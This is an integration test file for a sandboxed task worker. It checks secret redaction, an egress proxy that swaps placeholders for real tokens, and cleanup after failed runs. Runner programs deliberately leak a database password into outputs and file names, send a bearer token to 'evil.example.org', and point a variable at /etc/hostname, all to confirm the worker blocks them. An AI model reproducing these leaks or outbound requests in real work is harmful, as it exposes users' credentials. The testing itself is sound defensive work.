"""One attempt from the claim to the rows: real database, real Storage, a runner's process that misbehaves."""

from __future__ import annotations

import asyncio
import json
import os
import sys
import textwrap
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, ClassVar
from uuid import UUID, uuid4

import asyncpg
import httpx
import pytest
from supabase import AsyncClient, AsyncClientOptions, acreate_client

from pythonic_assistant.adapters.egress.broker import EgressBroker
from pythonic_assistant.adapters.egress.policy import read_routes
from pythonic_assistant.adapters.secrets.keyring import WorkerKey, key_of
from pythonic_assistant.adapters.secrets.vault import generate_key, seal
from pythonic_assistant.adapters.store.naming import BUCKET
from pythonic_assistant.adapters.store.supabase_files import SupabaseFiles
from pythonic_assistant.adapters.store.supabase_queue import SupabaseQueue
from pythonic_assistant.adapters.store.supabase_records import SupabaseRecords
from pythonic_assistant.adapters.store.supabase_secrets import SupabaseSecrets
from pythonic_assistant.domain.ending import Released
from pythonic_assistant.domain.event import EgressBegun, EgressRequested
from pythonic_assistant.domain.secret import BoundSecret
from pythonic_assistant.ports import Fence
from pythonic_assistant.wire import LONGEST_LINE, fields_of
from tests.embedded_fixtures import RunningSupabase
from worker.access import Means
from worker.attempt import Attempt
from worker.config import WorkerConfig
from worker.publishing import publish
from worker.runner import Runner

pytestmark = pytest.mark.timeout(60)

KEY = key_of(generate_key())
ROOT = Path(__file__).parents[2]
RAW, SWAPPED = "raw-canary-c0ffee", "swapped-canary-4711"

PRELUDE = """
import base64, json, os, pathlib, sys, time
order = json.loads(sys.stdin.readline())
request, outbox = order["request"], pathlib.Path(order["outbox"])
environment = request["environment"]
def emit(kind, **fields):
    event = {"kind": kind, **fields}
    print(json.dumps({"at": "2026-11-21T12:00:00+00:00", "event": event}), flush=True)
def note(text):
    emit("noted", text=text)
def ask(tool, **arguments):
    print(json.dumps({"ask": {"id": 1, "tool": tool, "arguments": arguments}}), flush=True)
    return json.loads(sys.stdin.readline())["answer"]
def leave(name, content):
    path = outbox / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content)
    emit("artifact_saved", name=name, path=str(path), media_type="text/csv", bytes=len(content),
        sha256="0" * 64)
def save(name, value):
    path = outbox / ".variables" / (name + ".json")
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(value))
    emit("variable_saved", name=name, type="dict", shape="1", bytes=9, media_type="application/json",
        load="json.load(open({path!r}))", path=str(path))
def succeed(answer="done"):
    emit("run_succeeded", answer=answer, verdict={"kind": "unverified", "evidence": []},
        usage={"turns": 1, "input_tokens": 1, "output_tokens": 1, "cost": None})
"""


@dataclass
class Runners:
    """Starts programs of the test in place of the runner."""

    program: str
    folder: Path

    async def take(self) -> Runner:
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            "-c",
            PRELUDE + textwrap.dedent(self.program),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            cwd=self.folder,
            env={"PYTHONPATH": str(ROOT), "PATH": os.environ["PATH"]},
            start_new_session=True,
            limit=LONGEST_LINE,
        )
        return Runner(process)


@dataclass(frozen=True)
class Grant:
    token: str
    certificate: str = "PEM"
    socket: Path = Path("/nowhere/broker.sock")


@dataclass
class Broker:
    """Grants, and reports one request with every secret while it revokes, as late ones come."""

    granted: list[tuple[tuple[str, ...], tuple[BoundSecret, ...]]] = field(
        default_factory=list[tuple[tuple[str, ...], tuple[BoundSecret, ...]]]
    )
    open: dict[str, Callable[[], None]] = field(default_factory=dict[str, Callable[[], None]])

    def grant(
        self,
        *,
        hosts: Sequence[str],
        secrets: Sequence[BoundSecret],
        report: Callable[[EgressRequested], None],
        announce: Callable[[EgressBegun], Awaitable[bool]],
    ) -> Grant:
        self.granted.append((tuple(hosts), tuple(secrets)))
        names = tuple(secret.name for secret in secrets)
        late = EgressRequested(
            host=hosts[0], port=443, method="GET", outcome="allowed", status=200, secrets=names
        )
        token = str(uuid4())
        self.open[token] = lambda: report(late)
        return Grant(token)

    async def revoke(self, token: str) -> None:
        if token in self.open:
            self.open.pop(token)()


@dataclass
class World:
    """A worker's parts around one person, and one queue of the test's own."""

    client: AsyncClient
    database: asyncpg.Connection[Any]
    folder: Path
    person: UUID
    queue_name: str = field(default_factory=lambda: f"q-{uuid4()}")
    broker: Broker = field(default_factory=Broker)
    way_out: EgressBroker | None = None

    async def ask(self, **columns: Any) -> int:
        given = {"user_id": self.person, "prompt": "do it", "queue": self.queue_name} | columns
        marks = ", ".join(f"${number}" for number in range(1, len(given) + 1))
        return await self.database.fetchval(
            f"insert into public.tasks ({', '.join(given)}) values ({marks}) returning id", *given.values()
        )

    async def secret(
        self, name: str, value: str, host: str, *, raw: bool = False, key: WorkerKey = KEY
    ) -> None:
        await SupabaseSecrets(self.client).publish(key.key_id, key.public_key)
        await self.database.execute(
            """insert into public.secrets (user_id, name, hosts, raw, ciphertext, key_id)
            values ($1, $2, $3, $4, $5, $6)""",
            self.person,
            name,
            [host],
            raw,
            seal(key.public_key, value),
            key.key_id,
        )

    async def work(self, program: str, **config: Any) -> asyncpg.Record:
        """Claim the one task there is, work on it, and return its row."""
        worker = uuid4()
        queue = SupabaseQueue(self.client, worker=worker, lease_seconds=30, queue=self.queue_name)
        (task,) = (await queue.claim(1, [])).tasks
        attempt = Attempt(
            task,
            config=WorkerConfig(supabase_url="", supabase_key="", home=self.folder, **config),
            queue=queue,
            journal=queue,
            files=SupabaseFiles(self.client),
            runners=Runners(program, self.folder),  # pyright: ignore[reportArgumentType]
            sandbox_socket=self.folder / "none.sock",
            folder=self.folder,
            means=Means(store=SupabaseSecrets(self.client), key=KEY, broker=self.way_out or self.broker),
            records=SupabaseRecords(self.client),
        )
        await attempt.work()
        assert not list(self.folder.iterdir()), "an attempt leaves nothing on the worker's disk"
        return await self.row(task.id)

    async def row(self, task: int) -> asyncpg.Record:
        row = await self.database.fetchrow("select * from public.tasks where id = $1", task)
        assert row is not None
        return row

    async def events(self, task: int) -> list[dict[str, Any]]:
        rows = await self.database.fetch(
            "select kind, data from public.task_events where task_id = $1 order by attempt, seq", task
        )
        return [{"kind": row["kind"], **json.loads(row["data"])} for row in rows]

    async def everything(self) -> str:
        """All rows of all tables that hold something of the person's, as text."""
        found: list[str] = []
        for table in ("tasks", "task_events", "task_steps", "messages", "artifacts", "variables", "threads"):
            rows = await self.database.fetch(
                f"select t::text as row from public.{table} t where user_id = $1", self.person
            )
            found += [row["row"] for row in rows]
        return "\n".join(found)

    async def stored(self) -> dict[str, bytes]:
        names = await self.database.fetch(
            "select name from storage.objects where bucket_id = $1 and name like $2",
            BUCKET,
            f"{self.person}/%",
        )
        bucket = self.client.storage.from_(BUCKET)
        return {row["name"]: await bucket.download(row["name"]) for row in names}


@pytest.fixture
async def world(embedded_supabase: RunningSupabase, tmp_path: Path) -> AsyncIterator[World]:
    async with httpx.AsyncClient(timeout=20, follow_redirects=True) as http:
        options = AsyncClientOptions(httpx_client=http, auto_refresh_token=False, persist_session=False)
        client = await acreate_client(embedded_supabase.url, embedded_supabase.secret_key, options)
        database = await asyncpg.connect(embedded_supabase.database_url)
        person = uuid4()
        await database.execute(
            "insert into auth.users (id, email) values ($1, $2)", person, f"{person}@example.com"
        )
        yield World(client=client, database=database, folder=tmp_path, person=person)
        await database.execute("delete from auth.users where id = $1", person)
        await database.close()
        await client.realtime.close()


LEAKY = f"""
raw = environment["DB_PASSWORD"]
assert raw == {RAW!r}
assert {SWAPPED!r} not in json.dumps(order), "the runner never gets what the proxy puts in"
note("placeholder " + environment["TOKEN"])
emit("output_written", step_id="s1", execution=1, stream="stdout", text="it is " + raw[:7])
time.sleep(0.2)
emit("output_written", step_id="s1", execution=1, stream="stdout", text=raw[7:] + " yes")
emit("code_executed", step_id="s1", execution=1, outcome="ok", error="",
    output=base64.b64encode(b"user:" + raw.encode()).decode(), seconds=0.1)
emit("check_executed", round=1, check=raw, outcome="passed", detail="x" + raw, code=repr(raw))
leave("good.csv", b"a,b")
leave("leak.csv", b"a," + raw.encode())
leave("leak2.csv", b"a," + {SWAPPED!r}.encode())
leave(raw + ".csv", b"a,b")
save("frame", {{"a": 1}})
save("leaky", raw)
emit("run_succeeded", answer="the answer is " + raw, verdict={{"kind": "proven", "evidence": [
    {{"check": "c " + raw, "outcome": "passed", "detail": raw, "code": raw}}]}},
    usage={{"turns": 1, "input_tokens": 1, "output_tokens": 1, "cost": None}})
"""


async def test_no_value_of_a_secret_reaches_a_row_or_a_file(world: World) -> None:
    await world.secret("TOKEN", SWAPPED, "api.example.org")
    await world.secret("DB_PASSWORD", RAW, "api.example.org", raw=True)
    await world.secret("UNUSED", "for another host", "other.example.org")
    await world.secret("FOREIGN", "of another worker", "api.example.org", key=key_of(generate_key()))
    task = await world.ask(hosts=["api.example.org"])
    row = await world.work(LEAKY)
    assert (row["state"], row["verdict"]) == ("succeeded", "proven"), row["error"]
    everything = await world.everything()
    for value in (RAW, SWAPPED, "canary"):
        assert value not in everything
    assert "PLACEHOLDER_DB_PASSWORD_" in row["answer"]

    stored = await world.stored()
    assert {name.rpartition("/")[2].partition("_")[0] for name in stored} == {
        "good.csv",
        "PLACEHOLDER",
        "frame.json",
    }
    assert not [name for name, content in stored.items() if b"canary" in content or "canary" in name]

    events = await world.events(task)
    warnings = " ".join(event["text"] for event in events if event["kind"] == "noted")
    for word in ("leak.csv was not stored", "leak2.csv was not stored", "The variable leaky was not stored"):
        assert word in warnings
    assert "FOREIGN is sealed to the key of another worker" in warnings
    assert "UNUSED" not in everything
    kinds = [event["kind"] for event in events]
    assert kinds.index("egress_requested") < kinds.index("run_succeeded"), "late requests come before the end"

    ((hosts, secrets),) = world.broker.granted
    assert hosts == ("api.example.org",)
    assert {secret.name: secret.value for secret in secrets} == {"TOKEN": SWAPPED, "DB_PASSWORD": RAW}
    assert world.broker.open == {}
    used = await world.database.fetch(
        "select name from public.secrets where user_id = $1 and last_used_at is not null order by name",
        world.person,
    )
    assert [item["name"] for item in used] == ["DB_PASSWORD", "TOKEN"]


class Upstream(BaseHTTPRequestHandler):
    """Remembers what came, and sends it back as a careless service does."""

    came: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.came.append(self.headers["Authorization"])
        body = f"you are {self.headers['Authorization']}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


QUIET = 'succeed("done")\n'
OUTWARD = """
import asyncio, socket, threading, urllib.error, urllib.request
from pathlib import Path
from pythonic_assistant.adapters.egress.client import BrokerEgress
grant = order["egress"]
listener = socket.create_server(("127.0.0.1", 0))
port = listener.getsockname()[1]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{port}"}))
def get(url):
    asked = urllib.request.Request(url, headers={"Authorization": "Bearer " + environment["TOKEN"]})
    try:
        with opener.open(asked, timeout=10) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return str(error.code)
async def main():
    egress = BrokerEgress(Path(grant["socket"]), grant["token"], grant["certificate"], request["hosts"])
    async with egress.serve(listener):
        got = await asyncio.to_thread(get, "http://api.example.org/x?y")
        refused = await asyncio.to_thread(get, "http://evil.example.org/")
        return got, refused
got, refused = asyncio.run(main())
succeed(json.dumps([got == "you are Bearer " + environment["TOKEN"], refused]))
"""


async def test_the_proxy_puts_the_value_in_and_every_request_is_told(world: World) -> None:
    await world.secret("TOKEN", SWAPPED, "api.example.org")
    task = await world.ask(hosts=["api.example.org"])
    Upstream.came.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), Upstream) as server, TemporaryDirectory() as place:
        threading.Thread(target=server.serve_forever, args=(0.05,)).start()
        routes = read_routes(f"api.example.org=http://127.0.0.1:{server.server_port}")
        async with EgressBroker(Path(place) / "out", routes=routes) as world.way_out:
            row = await world.work(OUTWARD)
        server.shutdown()
    assert Upstream.came == [f"Bearer {SWAPPED}"]
    assert row["state"] == "succeeded", row["error"]
    assert json.loads(row["answer"]) == [True, "403"], "the answer shows the placeholder, not the value"
    told = [event for event in await world.events(task) if event["kind"] == "egress_requested"]
    first, second = told
    assert (first["host"], first["outcome"], first["status"]) == ("api.example.org", "allowed", 200)
    assert first["secrets"] == ["TOKEN"]
    assert (second["host"], second["outcome"]) == ("evil.example.org", "refused")
    assert SWAPPED not in await world.everything()


@pytest.mark.parametrize(
    ("method", "outcome", "stopped"),
    [("POST", "failed", True), ("POST", "begun", True), ("GET", "allowed", False)],
)
async def test_what_an_interrupted_attempt_sent_is_not_sent_again_without_a_person(
    world: World, method: str, outcome: str, stopped: bool
) -> None:
    task = await world.ask(hosts=["api.example.org"])
    queue = SupabaseQueue(world.client, worker=uuid4(), lease_seconds=30, queue=world.queue_name)
    (claimed,) = (await queue.claim(1, [])).tasks
    fence = Fence(claimed.id, claimed.attempt)
    refused = EgressRequested(host="api.example.org", port=443, method="PUT", outcome="refused")
    sent = replace(refused, method=method, outcome=outcome)  # pyright: ignore[reportArgumentType]
    if outcome == "begun":  # the worker was killed before it could tell how the request ended
        sent = EgressBegun(host="api.example.org", method=method)
    assert await queue.append(
        fence,
        [
            {"seq": n, "kind": e.kind, "step_id": None, "at": "2026-11-21T00:00:00Z", "data": fields_of(e)}
            for n, e in enumerate((sent, refused), start=1)
        ],
    )
    await queue.end(Released(task_id=fence.task_id, attempt=fence.attempt))
    row = await world.work(QUIET)
    if not stopped:
        assert row["state"] == "succeeded", row["error"]
        return
    assert row["state"] == "failed"
    assert row["error"].startswith(
        "An earlier attempt was interrupted after it had sent POST api.example.org."
    )
    assert not world.broker.granted, "nothing was opened"
    await world.database.execute("select pythonic.retry_task($1, true)", task)
    again = await world.work(QUIET)
    assert again["state"] == "succeeded", again["error"]


async def test_a_variable_of_one_task_is_there_in_the_next_of_the_thread(world: World) -> None:
    first = await world.ask()
    assert (await world.work('save("frame", {"a": 1})\nsucceed()'))["state"] == "succeeded"
    thread = (await world.row(first))["thread_id"]
    await world.ask(thread_id=thread)
    row = await world.work(
        """
        (saved,) = request["saved"]
        (file,) = request["files"]
        assert file["name"] == "saved_frame.json"
        succeed(saved["name"] + " " + saved["path"] + " " + pathlib.Path(file["path"]).read_text())
        """
    )
    assert row["answer"] == 'frame inputs/saved_frame.json {"a": 1}', row["error"]
    await world.ask(prompt="another thread")
    assert (await world.work('succeed(str(len(request["saved"])))'))["answer"] == "0"


async def test_a_kept_variable_is_replaced_by_one_of_its_name(world: World) -> None:
    first = await world.ask()
    await world.work('save("frame", {"a": 1})\nsave("other", 1)\nsucceed()')
    thread = (await world.row(first))["thread_id"]
    second = await world.ask(thread_id=thread)
    await world.work('save("frame", {"a": 2})\nsucceed()')
    rows = await world.database.fetch(
        "select name, task_id from public.variables where thread_id = $1 order by name", thread
    )
    assert [tuple(row) for row in rows] == [("frame", second), ("other", first)]
    assert (await world.stored())[f"{world.person}/variables/{thread}/frame.json"] == b'{"a": 2}'


async def test_hosts_come_from_task_thread_and_assistant_and_limits_are_capped(world: World) -> None:
    assistant = await world.database.fetchval(
        """insert into public.assistants (user_id, name, hosts, limits, tools)
        values ($1, 'A', '{a.example.org,c.example.org}', '{"turns": 3, "memory_bytes": 67108864}', '{}')
        returning id""",
        world.person,
    )
    thread = await world.database.fetchval(
        """insert into public.threads (user_id, assistant_id, hosts) values ($1, $2, '{b.example.org}')
        returning id""",
        world.person,
        assistant,
    )
    limits = json.dumps({"turns": 7, "processes": 1_000_000})
    task = await world.ask(thread_id=thread, hosts=["c.example.org"], limits=limits)
    row = await world.work(
        """
        limits = request["limits"]
        got = [request["hosts"], limits["memory_bytes"], limits["processes"], request["budget"]["turns"]]
        succeed(json.dumps(got + [request["tools"], order["egress"]["certificate"]]))
        """
    )
    hosts, memory, processes, turns, tools, certificate = json.loads(row["answer"])
    assert hosts == ["a.example.org", "b.example.org", "c.example.org"]
    assert (memory, processes, turns, tools, certificate) == (64 << 20, 64, 7, [], "PEM")
    notes = [event["text"] for event in await world.events(task) if event["kind"] == "noted"]
    assert any("processes is 64" in text for text in notes)


async def test_without_hosts_there_is_no_way_out(world: World) -> None:
    await world.secret("TOKEN", SWAPPED, "api.example.org")
    await world.ask()
    row = await world.work('succeed(json.dumps([order["egress"], request["environment"], request["hosts"]]))')
    assert json.loads(row["answer"]) == [None, {}, []]
    assert world.broker.granted == []


@pytest.mark.parametrize(
    "program",
    [
        "sys.exit(3)",
        "print('garbage', flush=True)",
        "os.kill(os.getpid(), 9)",
        "print('{\"ask\": 1}', flush=True)",
    ],
)
async def test_the_way_out_is_closed_however_a_run_ends(world: World, program: str) -> None:
    task = await world.ask(hosts=["api.example.org"])
    row = await world.work(program)
    assert row["state"] == "scheduled"
    assert len(world.broker.granted) == 1
    assert world.broker.open == {}
    assert [event["kind"] for event in await world.events(task)].count("egress_requested") == 1


async def test_tools_are_answered_for_the_tasks_own_person(world: World) -> None:
    await world.ask(prompt="my bill for November by service")
    await world.work('leave("bill.csv", b"a")\nsucceed("42 dollars")')
    thread = await world.database.fetchval("select id from public.threads where user_id = $1", world.person)
    stranger = uuid4()
    await world.database.execute(
        "insert into auth.users (id, email) values ($1, $2)", stranger, f"{stranger}@x.org"
    )
    other = World(client=world.client, database=world.database, folder=world.folder, person=stranger)
    await other.ask(prompt="the bill of somebody else")
    await other.work('succeed("secret bill")')
    await world.ask(prompt="and now?", thread_id=thread)
    row = await world.work(
        """
        found = ask("earlier_tasks", words="bills of november")["value"]
        files = ask("thread_files")["value"]
        refused = ask("earlier_tasks", words="x", limit=10**6)["error"]
        missing = ask("delete_everything")["error"]
        nothing = ask("earlier_tasks", words="zebra")["value"]
        succeed(json.dumps([found, files, refused, missing, nothing]))
        """
    )
    found, files, refused, missing, nothing = json.loads(row["answer"])
    assert [(item["asked"], item["answer"]) for item in found] == [
        ("my bill for November by service", "42 dollars")
    ]
    assert [(item["name"], item["bytes"]) for item in files] == [("bill.csv", 1)]
    assert refused
    assert "delete_everything" in missing
    assert nothing == []
    await world.database.execute("delete from auth.users where id = $1", stranger)


async def test_an_assistant_with_a_tool_that_is_none_fails_with_a_sentence(world: World) -> None:
    assistant = await world.database.fetchval(
        """insert into public.assistants (user_id, name, tools) values ($1, 'A', '{send_rockets}')
        returning id""",
        world.person,
    )
    await world.ask(assistant_id=assistant)
    row = await world.work("succeed()")
    assert (row["state"], "send_rockets" in row["error"]) == ("failed", True)


async def test_a_variable_from_outside_of_the_outbox_fails_the_task(world: World) -> None:
    await world.ask()
    row = await world.work(
        """
        emit("variable_saved", name="x", type="str", shape="", bytes=1, media_type="application/json",
            load="x", path="/etc/hostname")
        succeed()
        """
    )
    assert row["state"] == "failed"
    assert "outside" in row["error"]
    assert await world.stored() == {}


async def test_events_of_a_lost_lease_keep_no_variable(world: World) -> None:
    task = await world.ask()
    queue = SupabaseQueue(world.client, worker=uuid4(), lease_seconds=30, queue=world.queue_name)
    (claimed,) = (await queue.claim(1, [])).tasks
    data = {
        "name": "x",
        "type": "int",
        "bytes": 1,
        "media_type": "application/json",
        "load": "x",
        "storage_path": "p",
    }
    event = json.dumps([{"seq": 1, "kind": "variable_saved", "data": data}])
    append = "select public.append_events($1, $2, $3, $4)"
    assert not await world.database.fetchval(append, uuid4(), task, claimed.attempt, event)
    assert not await world.database.fetchval(append, uuid4(), task, claimed.attempt + 1, event)
    assert (
        await world.database.fetchval(
            "select count(*) from public.variables where user_id = $1", world.person
        )
        == 0
    )


async def test_the_newest_key_is_the_one_that_was_published_last(world: World) -> None:
    store = SupabaseSecrets(world.client)
    one, two = key_of(generate_key()), key_of(generate_key())
    newest = "select key_id from public.secret_keys order by published_at desc limit 1"
    for key in (one, two, one):  # in the end the worker with the older key starts again
        await publish(store, key)
        assert await world.database.fetchval(newest) == key.key_id
